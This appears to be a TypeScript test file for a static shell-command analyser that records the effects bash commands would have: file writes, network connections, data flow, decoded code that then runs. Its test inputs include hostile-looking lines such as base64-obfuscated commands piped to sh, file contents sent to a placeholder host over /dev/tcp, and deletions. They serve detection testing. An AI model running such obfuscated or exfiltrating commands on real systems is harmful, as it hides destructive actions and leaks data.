// Tests of what the walker itself makes of a text: redirections, data flow, texts that become code, environments, spans, refusals.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { limits } from '../../model/index.ts';
import { prescan } from '../../shell/prescan.ts';
import { Recorder } from './recorder.ts';

const P = '/home/dev/project';

/** Effects without process.exec. */
function effects(text: string): string[] {
  return new Recorder(text).effects.filter((one) => !/^~?process\.exec/.test(one));
}

function table(name: string, rows: readonly (readonly [text: string, effects: readonly string[]])[]): void {
  describe(name, () => {
    for (const [text, want] of rows) it(JSON.stringify(text), () => assert.deepEqual(effects(text), want));
  });
}

table('redirections', [
  ['a > o', [`file.write ${P}/o +truncate`]],
  ['a >> o', [`file.write ${P}/o +append`]],
  ['a >| o', [`file.write ${P}/o +truncate`]],
  ['a &> o', [`file.write ${P}/o +truncate`]],
  ['a &>> o', [`file.write ${P}/o +append`]],
  ['a &> o >&2', [`file.write ${P}/o +truncate`]],
  ['a >& o', [`file.write ${P}/o +truncate`]],
  ['a 2> o', [`file.write ${P}/o +truncate`]],
  ['a < i', [`file.read ${P}/i`]],
  ['a <> io', [`file.read ${P}/io`, `file.write ${P}/io +create`]],
  ['a > /dev/null 2>&1', []],
  ['a 2>&1 >/dev/stderr', []],
  ['> o', [`file.write ${P}/o +truncate`]],
  ['{ a; b; } > o', [`file.write ${P}/o +truncate`]],
  ['for i in 1; do a; done > o', [`file.write ${P}/o +truncate`]],
  ['f() { a; } > o; f', [`file.write ${P}/o +truncate`]],
  ['cd /tmp; a > o', ['file.write /tmp/o +truncate']],
  ['a > $NOT_SET', ['file.write ? +truncate']],
  ['a > {x,y}', ['file.write ? +truncate']],
  ['exec > o; a', [`file.write ${P}/o +truncate`, `file.write ${P}/o +append`]],
  ['exec 3> o; a >&3', [`file.write ${P}/o +truncate`, `file.write ${P}/o +append`]],
  ['exec {fd}> o; a >&$fd', [`file.write ${P}/o +truncate`, `file.write ${P}/o +append`]],
  ['a 3> o 4>&3', [`file.write ${P}/o +truncate`]],
  ['history -w h', [`file.write ${P}/h +truncate`]],
  ['history -a', ['file.write /home/dev/.bash_history +append']],
  ['enable -f ./x.so x', [`code.eval ${P}/x.so +unread`, 'opaque ? +unread']],
]);

table('connections of bash itself', [
  ['a > /dev/tcp/h.example/80', ['net.connect h.example:80', 'net.send h.example:80 +upload']],
  ['a < /dev/udp/h.example/53', ['net.connect h.example:53']],
  ['cat s > /dev/tcp/h.example/80', ['net.connect h.example:80', `file.read ${P}/s`, 'net.send h.example:80 +upload']],
  [
    'exec 5<> /dev/tcp/h.example/80; cat s >&5',
    ['net.connect h.example:80', `file.read ${P}/s`, 'net.send h.example:80 +upload'],
  ],
  ['a > /dev/tcp/$NOT_SET/80', ['net.connect ?', 'net.send ? +upload']],
  [
    '{ cat s; } > /dev/tcp/h.example/80',
    ['net.connect h.example:80', `file.read ${P}/s`, 'net.send h.example:80 +upload'],
  ],
]);

describe('data flows', () => {
  const from = (text: string, kind: string): readonly string[] => {
    const run = new Recorder(text);
    const effect = run.result().effects.findLast((one) => one.kind === kind);
    return (effect?.data?.from ?? []).map((index) => run.effects[index] ?? '');
  };
  const rows: readonly (readonly [string, string, string])[] = [
    ['cat s | tee o', 'file.write', `file.read ${P}/s`],
    ['cat s > o', 'file.write', `file.read ${P}/s`],
    ['(cd x; cat s) > o', 'file.write', `file.read ${P}/x/s`],
    ['x=$(cat s); echo "$x" > o', 'file.write', `file.read ${P}/s`],
    ['while read l; do echo "$l"; done < s > o', 'file.write', `file.read ${P}/s`],
    ['cat <(cat s) > o', 'file.write', `file.read ${P}/s`],
    ['f() { cat "$1"; }; f s | cat > o', 'file.write', `file.read ${P}/s`],
    ['a=($(cat s)); echo ${a[1]} > o', 'file.write', `file.read ${P}/s`],
    ['$(< s) > o; cat <<< $(< s) > o', 'file.write', `file.read ${P}/s`],
    ['cat s > t; cat t > o', 'file.write', `file.read ${P}/s`],
    ['read x < s; echo ${x%a} > o', 'file.write', `file.read ${P}/s`],
  ];
  for (const [text, kind, want] of rows)
    it(text, () => assert.ok(from(text, kind).includes(want), from(text, kind).join(', ')));
});

table('E-S04 text that was decoded or fetched and then runs', [
  ['echo cm0gL3g= | base64 -d | sh', ['code.eval sh +stdin +decoded', 'file.delete /x']],
  ['eval "$(echo cm0gL3g= | base64 -d)"', ['code.eval sh +inline +decoded', 'file.delete /x']],
  ['$(echo cm0= | base64 -d) /x', ['file.delete /x']],
  ['. <(echo cm0gL3g= | base64 -d)', ['code.eval sh +script +decoded', 'file.delete /x']],
  ['x=$(printf "\\x72\\x6d"); $x /x', ['file.delete /x']],
  ['cat <<< "rm /x" | sh', ['code.eval sh +stdin', 'file.delete /x']],
  ['bash <<E\nrm /x\nE', ['code.eval bash +stdin', 'file.delete /x']],
  ["bash <<-'E'\n\trm /x\n\tE", ['code.eval bash +stdin', 'file.delete /x']],
  [
    'echo "rm /x" > a.sh; . ./a.sh',
    [`file.write ${P}/a.sh +truncate`, `code.eval ${P}/a.sh +script`, 'file.delete /x'],
  ],
  ['echo "rm /x" | tee >(sh)', ['code.eval sh +stdin', 'file.delete /x']],
  ['a() { rm /x; }; trap a EXIT', ['code.eval sh +inline', 'file.delete /x']],
]);

table('E-W01 builtins that run what follows', [
  ['command rm /x', ['file.delete /x']],
  ['builtin eval "rm /x"', ['code.eval sh +inline', 'file.delete /x']],
  ['exec rm /x', ['file.delete /x']],
  ['exec -a ls rm /x', ['file.delete /x']],
  ['time rm /x', ['file.delete /x']],
  ['coproc rm /x', ['file.delete /x']],
  ['! rm /x', ['file.delete /x']],
  ['rm /x &', ['file.delete /x']],
  ["trap 'rm /x' EXIT", ['code.eval sh +inline', 'file.delete /x']],
  ["bash -c 'rm $1' a /x", ['code.eval bash +inline', 'file.delete /x']],
  ['bash -c \'shift; rm "$@"\' a /y /x', ['code.eval bash +inline', 'file.delete /x']],
  ['command -v rm /x', []],
]);

describe('E-E07 names and environments', () => {
  const env = (text: string): string[] => {
    const last = new Recorder(text).runs.findLast((run) => run.argv[0]?.text === 'git');
    return [...(last?.env ?? [])].map(([name, value]) => `${name}=${value.kind === 'known' ? value.text : '?'}`);
  };
  it('hands exported and prefixed variables to programs', () => {
    assert.deepEqual(env('PAGER=x git log'), ['PAGER=x']);
    assert.deepEqual(env('export PAGER=x; git log'), ['PAGER=x']);
    assert.deepEqual(env('typeset -x PAGER=x; git log'), ['PAGER=x']);
    assert.deepEqual(env('PAGER=x; export PAGER; A=$PAGER git log'), ['PAGER=x', 'A=x']);
    assert.deepEqual(env('PAGER=x; git log'), []);
    assert.deepEqual(env('export PAGER=x; export -n PAGER; git log'), []);
    assert.deepEqual(env('(export PAGER=x); git log'), []);
    assert.deepEqual(env('export PAGER=x; f() { local PAGER=y; git log; }; f'), ['PAGER=y']);
    assert.deepEqual(env("PAGER=x bash -c 'git log'"), ['PAGER=x']);
  });
  it('keeps one value for one export', () => {
    const [a, b] = new Recorder('export A=1; p; q').runs;
    assert.equal(a?.env.get('A'), b?.env.get('A'));
  });
});

describe('spans', () => {
  const spans = (text: string): string[] =>
    new Recorder(text).result().effects.map((effect) => {
      assert.equal(effect.span.at, '/command');
      return text.slice(effect.span.from, effect.span.to);
    });
  it('point at the command in the input', () => {
    assert.deepEqual(spans('true; rm /x'), ['rm /x', 'rm /x']);
    assert.deepEqual(spans('a "$(rm /x)"'), ['rm /x', 'rm /x', 'a "$(rm /x)"']);
  });
  it('point into text that stands in the input as it is', () => {
    assert.deepEqual(spans("eval 'a; rm /x'"), ['a; rm /x', 'a', 'rm /x', 'rm /x']);
    assert.deepEqual(spans("bash -c 'a; b'").slice(1), ['a; b', 'a', 'b']);
  });
  it('point at what encloses text that was made', () => {
    assert.deepEqual(
      spans('eval a\\ b'),
      ['eval a\\ b', 'eval a\\ b'].map(() => 'a\\ b'),
    );
    assert.deepEqual(
      spans('x="rm y"; eval $x').slice(1),
      ['eval $x', 'eval $x'].map(() => spans('x="rm y"; eval $x')[0] ?? ''),
    );
    assert.ok(spans('`echo \\`a\\``').every((span) => span.includes('`')));
  });
});

describe('E-S05 texts that are not followed are said to be', () => {
  const rows: readonly (readonly [name: string, text: string, effects: readonly string[]])[] = [
    ['syntax', 'a | | b', ['opaque ? +syntax']],
    ['syntax inside a substitution', 'echo $(a | | b)', ['opaque ? +syntax']],
    ['lines before the trouble run', 'rm /x\n)', ['opaque ? +syntax', 'file.delete /x']],
    ['NUL', 'a\0b', ['opaque ? +syntax']],
    ['carriage return', 'a\rb', ['opaque ? +syntax']],
    ['length', 'a'.repeat(limits.SHELL_TEXT + 1), ['opaque ? +limit']],
    ['depth', '('.repeat(limits.SHELL_DEPTH + 1), ['opaque ? +limit']],
    [
      'eval without end',
      'f() { eval f; }; f',
      ['code.eval sh +inline', 'code.eval sh +inline', 'code.eval sh +inline', 'opaque ? +limit'],
    ],
    ['a function in itself', 'f() { f | f & }; f', ['opaque ? +limit']],
    ['a hidden line continuation', 'a $\\\nx', ['opaque ? +syntax']],
  ];
  for (const [name, text, want] of rows) it(name, () => assert.deepEqual(effects(text), want));

  it('goes on where a quote holds a line end and a comment sign', () => {
    assert.deepEqual(new Recorder('a "x\n# y"; rm /x').argvs, ['a x\n# y', 'rm /x']);
  });
  it('counts no command too few in a long list', () => {
    assert.equal(new Recorder(`${'true && '.repeat(200)}rm /x`).argvs.at(-1), 'rm /x');
  });
  it('reads white space as bash does', () => {
    assert.deepEqual(new Recorder(`a${' '.repeat(4000)}; rm /x`).argvs, ['a', 'rm /x']);
    assert.deepEqual(new Recorder('"rm " /x').argvs, ['rm  /x']);
  });
  it('finds characters that hide something', () => {
    assert.ok(new Recorder('echo \u202e x').result().findings.length > 0);
    assert.equal(new Recorder('echo grün').result().findings.length, 0);
  });
});

describe('prescan', () => {
  it('lets ordinary text pass', () => assert.equal(prescan('a "b(c" {d,e} $(f [g])\r\n'), undefined));
  it('answers for a megabyte of anything', () => {
    for (const unit of ['(', '$(', '{', '"', 'a ', '`', '[', '()', '\\']) {
      assert.equal(prescan(unit.repeat(1 << 20))?.as, 'limit');
    }
  });
  it('counts brackets that are open together', () => {
    assert.equal(prescan('()'.repeat(1000)), undefined);
    assert.equal(prescan('('.repeat(limits.SHELL_DEPTH)), undefined);
    assert.equal(prescan(`${')'.repeat(500)}${'('.repeat(limits.SHELL_DEPTH + 1)}`)?.as, 'limit');
    assert.equal(prescan('('.repeat(limits.SHELL_DEPTH + 1))?.as, 'limit');
  });
});
